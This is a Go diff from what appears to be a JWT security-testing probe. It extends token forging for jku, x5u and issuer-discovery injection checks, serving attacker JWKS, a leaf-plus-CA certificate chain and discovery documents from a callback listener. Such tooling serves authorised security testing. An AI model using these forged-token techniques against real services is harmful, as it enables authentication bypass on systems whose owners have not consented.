@@ -79,20 +79,27 @@ func (a *Attacker) JWKS() []byte {
 	return b
 }
 
-// ChainPEM is the self-signed certificate as PEM, what x5u points at.
+// ChainPEM is the chain x5u points at, as PEM: the leaf for the attacker
+// key first (RFC 5280 order, as RFC 7515 §4.1.5 wants), then the fresh CA
+// that issued it.
 func (a *Attacker) ChainPEM() []byte {
-	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: a.SelfCert})
+	return append(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: a.LeafCert}),
+		pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: a.CACert})...)
 }
 
 // File is one document a callback listener serves.
 type File struct {
 	Check       string // the check whose variant points at it
 	Path        string // the URL path, random per run
-	Prefix      string // the random directory Path is in: any request under it is this check's
+	Token       string // the random path segment: any request whose path holds it is this check's
 	URL         string // the full URL the token names
 	ContentType string
 	Body        []byte
 }
+
+// PlaceholderPort stands for a port not chosen yet in NewCallback's URLs
+// (http://127.0.0.1:PORT in a dry run's plan).
+const PlaceholderPort = "PORT"
 
 // Callback is where the listener-based variants point: the URLs a
 // listener reachable by the target serves, under random paths.
@@ -108,11 +115,16 @@ type Callback struct {
 // tlsBaseURL (the same listener over TLS, for x5u; "" = baseURL). Paths
 // are random so that only this run's listener knows them.
 func NewCallback(a *Attacker, baseURL, tlsBaseURL string) (*Callback, error) {
+	// A plan names a port not chosen yet as PlaceholderPort, which
+	// url.Parse refuses: it parses as port 0.
+	parse := func(u string) (*url.URL, error) {
+		return url.Parse(strings.Replace(u, ":"+PlaceholderPort, ":0", 1))
+	}
 	for _, u := range []string{baseURL, tlsBaseURL} {
 		if u == "" {
 			continue
 		}
-		p, err := url.Parse(u)
+		p, err := parse(u)
 		if err != nil || (p.Scheme != "http" && p.Scheme != "https") || p.Host == "" {
 			return nil, fmt.Errorf("%w: callback URL %q is not an http or https URL", ErrForge, u)
 		}
@@ -122,7 +134,7 @@ func NewCallback(a *Attacker, baseURL, tlsBaseURL string) (*Callback, error) {
 		tlsBaseURL = baseURL
 	}
 	tlsBaseURL = strings.TrimRight(tlsBaseURL, "/")
-	basePath := func(u string) string { p, _ := url.Parse(u); return strings.TrimRight(p.Path, "/") }
+	basePath := func(u string) string { p, _ := parse(u); return strings.TrimRight(p.Path, "/") }
 	c := &Callback{Attacker: a}
 	jwks := "/" + randomPath() + "/jwks.json"
 	x5u := "/" + randomPath() + "/x5u.pem"
@@ -132,12 +144,25 @@ func NewCallback(a *Attacker, baseURL, tlsBaseURL string) (*Callback, error) {
 	c.issuer = baseURL + iss
 	disc, _ := token.MarshalJSON(map[string]any{"issuer": c.issuer, "jwks_uri": c.issuer + "/jwks.json",
 		"id_token_signing_alg_values_supported": []any{a.Alg}})
-	dir := func(base, p string) string { return basePath(base) + p[:strings.LastIndex(p, "/")] }
+	seg := func(p string) string { return strings.Split(strings.TrimPrefix(p, "/"), "/")[0] }
+	bp, tbp, origin := basePath(baseURL), basePath(tlsBaseURL), strings.TrimSuffix(baseURL, basePath(baseURL))
+	const jwksType, discType = "application/jwk-set+json", "application/json"
 	c.Files = []File{
-		{"jwt.jku-injection", basePath(baseURL) + jwks, dir(baseURL, jwks), c.jku, "application/jwk-set+json", a.JWKS()},
-		{"jwt.x5u-injection", basePath(tlsBaseURL) + x5u, dir(tlsBaseURL, x5u), c.x5u, "application/pem-certificate-chain", a.ChainPEM()},
-		{"jwt.issuer-discovery-injection", basePath(baseURL) + iss + "/.well-known/openid-configuration", basePath(baseURL) + iss, c.issuer + "/.well-known/openid-configuration", "application/json", disc},
-		{"jwt.issuer-discovery-injection", basePath(baseURL) + iss + "/jwks.json", basePath(baseURL) + iss, c.issuer + "/jwks.json", "application/jwk-set+json", a.JWKS()},
+		{"jwt.jku-injection", bp + jwks, seg(jwks), c.jku, jwksType, a.JWKS()},
+		{"jwt.x5u-injection", tbp + x5u, seg(x5u), c.x5u, "application/pem-certificate-chain", a.ChainPEM()},
+		{"jwt.issuer-discovery-injection", bp + iss + "/jwks.json", seg(iss), c.issuer + "/jwks.json", jwksType, a.JWKS()},
+	}
+	// An API may build the discovery URL from iss in any of the forms in
+	// use: appended (OpenID Connect Discovery §4) or inserted between host
+	// and path (RFC 8414 §3, also used for openid-configuration); each
+	// serves the same document.
+	for _, p := range []string{
+		bp + iss + "/.well-known/openid-configuration",
+		bp + iss + "/.well-known/oauth-authorization-server",
+		"/.well-known/openid-configuration" + bp + iss,
+		"/.well-known/oauth-authorization-server" + bp + iss,
+	} {
+		c.Files = append(c.Files, File{"jwt.issuer-discovery-injection", p, seg(iss), origin + p, discType, disc})
 	}
 	return c, nil
 }
@@ -196,15 +221,15 @@ func (f *Forger) JKUInjection(c *Callback) ([]Forged, error) {
 	}, nil
 }
 
-// X5UInjection signs the token with the attacker key and points x5u at the
-// attacker's self-signed certificate (PEM).
+// X5UInjection signs the token with the attacker key and points x5u at a
+// PEM chain: the attacker key's leaf and the fresh CA that issued it.
 func (f *Forger) X5UInjection(c *Callback) (Forged, error) {
 	a := c.Attacker
 	tok, err := f.signRaw(a.Key, a.Alg, f.withHeaderMap(map[string]any{"alg": a.Alg, "kid": nil, "x5u": c.x5u}))
 	if err != nil {
 		return Forged{}, err
 	}
-	return Forged{ID: "jwt.x5u-injection/pem-chain", Label: a.Alg + " signed with a fresh key, x5u naming probe's PEM certificate", Token: tok}, nil
+	return Forged{ID: "jwt.x5u-injection/pem-chain", Label: a.Alg + " signed with a fresh key, x5u naming probe's PEM chain (its leaf and a fresh CA)", Token: tok}, nil
 }
 
 // X5CInjection signs the token with the attacker key and embeds its
@@ -287,7 +312,11 @@ func (f *Forger) ClaimReflection(marker string) (Forged, map[string]string) {
 	}
 	bad := f.BadSignature()
 	sig := bad.Token[strings.LastIndex(bad.Token, ".")+1:]
-	return Forged{ID: "jwt.claim-reflection/markers", Label: fmt.Sprintf("%d claims set to markers, signature broken", len(markers)), Token: f.headerSeg + "." + encodeSeg(c) + "." + sig}, markers
+	claims := "claims"
+	if len(markers) == 1 {
+		claims = "claim"
+	}
+	return Forged{ID: "jwt.claim-reflection/markers", Label: fmt.Sprintf("%d %s set to markers, signature broken", len(markers), claims), Token: f.headerSeg + "." + encodeSeg(c) + "." + sig}, markers
 }
 
 func sortedKeys(m map[string]any) []string { return slices.Sorted(maps.Keys(m)) }
